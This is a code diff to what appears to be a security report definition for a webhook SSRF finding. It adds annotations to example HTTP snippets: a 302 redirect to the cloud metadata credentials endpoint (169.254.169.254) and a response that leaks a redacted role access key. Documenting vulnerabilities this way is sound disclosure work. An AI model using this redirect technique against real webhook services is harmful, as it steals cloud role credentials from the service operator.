@@ -32,8 +32,9 @@ export const webhookSsrf: ReportFinding = {
       'Answer of our own host to the test event',
       `
 HTTP/1.1 302 Found
-Location: http://169.254.169.254/latest/meta-data/iam/security-credentials/webhook-sender
+Location: {-http://169.254.169.254/latest/meta-data/iam/security-credentials/webhook-sender-} {#1}
 `,
+      ['an address that only the sender can reach'],
     ),
     code(
       'http',
@@ -46,9 +47,10 @@ Authorization: Bearer <user of mer_test_a>
 HTTP/1.1 200 OK
 Content-Type: application/json
 
-{"status":200,"body":"{ \\"Code\\" : \\"Success\\", \\"AccessKeyId\\" : \\"ASIA...\\",
- \\"SecretAccessKey\\" : \\"<removed>\\", \\"Token\\" : \\"<removed>\\" }"}
+{"status":200,"body":"{ \\"Code\\" : \\"Success\\", \\"AccessKeyId\\" : {+\\"ASIA...\\"+},
+ \\"SecretAccessKey\\" : \\"<removed>\\", \\"Token\\" : \\"<removed>\\" }"} {#2}
 `,
+      ['the keys of its role'],
     ),
   ],
   reproduction: [
